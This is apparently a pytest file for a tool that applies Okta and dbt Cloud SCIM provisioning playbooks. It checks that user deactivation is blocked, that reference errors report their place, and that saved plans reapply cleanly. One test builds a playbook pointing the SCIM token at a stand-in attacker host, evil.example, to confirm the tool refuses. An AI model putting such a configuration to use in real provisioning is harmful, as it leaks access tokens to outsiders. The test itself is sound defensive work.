"""A changed playbook can't hurt people, and can't choose where a token goes."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from tool import Tool

Start = Callable[..., Tool]

APP = """
variables: {app: null, groups: []}
resources:
  - {kind: okta.saml_app, name: dbt, label: "{{ app }}"}
"""

REMOVED = """
  - kind: okta.group_assignment
    for_each: "{{ groups }}"
    name: "{{ item.name }}"
    app: !ref okta.saml_app/dbt.id
    state: absent
"""

CONNECTED = """
  - {kind: dbt_cloud.scim_config}
  - {kind: dbt_cloud.scim_token, name: okta}
  - kind: okta.scim_provisioning
    app: !ref okta.saml_app/dbt.id
    base_url: BASE_URL
    token: TOKEN
"""


def playbook(tool: Tool, text: str) -> None:
    (tool.config.parent / "changed.yaml").write_text(text)
    tool.config.write_text(tool.config.read_text().replace("dbt_cloud_scim", "./changed.yaml"))


def test_people_are_not_deactivated_where_nothing_declared_can_count_them(
    simulated: Start,
) -> None:
    tool = simulated()
    tool.run("apply", "--yes")
    playbook(tool, APP + REMOVED)
    before = tool.account()["users"]

    came = tool.run("apply", "--yes", "--allow", "delete=2")

    assert came.code == 4
    assert "nothing in the playbook can count them" in came.out
    assert tool.account()["users"] == before


@pytest.mark.parametrize("tenant", ["acme", "initech"])
def test_a_playbook_does_not_choose_where_the_token_goes(simulated: Start, tenant: str) -> None:
    tool = simulated(3)
    connected = CONNECTED.replace("BASE_URL", "https://evil.example/scim/v2")
    playbook(tool, APP + connected.replace("TOKEN", "!ref dbt_cloud.scim_token/okta.token"))
    sink = tool.config.parent / "token"

    plan = tool.run("plan", "--tenant", tenant)
    came = tool.run("apply", "--yes", "--tenant", tenant, "--token-to", f"file:{sink}")

    assert plan.code == came.code == 1
    assert "the token isn't for evil.example" in plan.out
    assert not sink.exists()
    assert tool.account(0)["tokens"] == tool.account(2)["tokens"] == []


@pytest.mark.parametrize(
    ("base_url", "token"),
    [
        ("!ref dbt_cloud.scim_config.base_url", "!ref okta.saml_app/dbt.id"),
        ("!ref dbt_cloud.scim_token/okta.token", "!ref dbt_cloud.scim_token/okta.token"),
    ],
)
def test_a_reference_of_the_wrong_kind_is_an_error_with_its_place(
    simulated: Start, base_url: str, token: str
) -> None:
    tool = simulated()
    tool.dbt(
        "POST",
        "/scim-config/tokens/",
        json={
            "name": "okta-scim-setup/70403101/okta/r1/2c080a17/3af6557d",
        },
    )
    playbook(tool, APP + CONNECTED.replace("BASE_URL", base_url).replace("TOKEN", token))

    came = tool.run("plan")

    assert came.code == 1
    assert "can't be" in came.out
    assert "changed:" in came.out or "changed.yaml:" in came.out


def test_a_saved_plan_selects_its_tenants_and_may_be_applied_twice(simulated: Start) -> None:
    tool = simulated(2)
    saved = tool.config.parent / "plan.json"
    tool.run("plan", "--tenant", "acme", "--out", str(saved))

    assert tool.run("apply", str(saved), "--yes").code == 0
    assert tool.run("apply", str(saved), "--yes").code == 0
    assert tool.account(1)["tokens"] == []
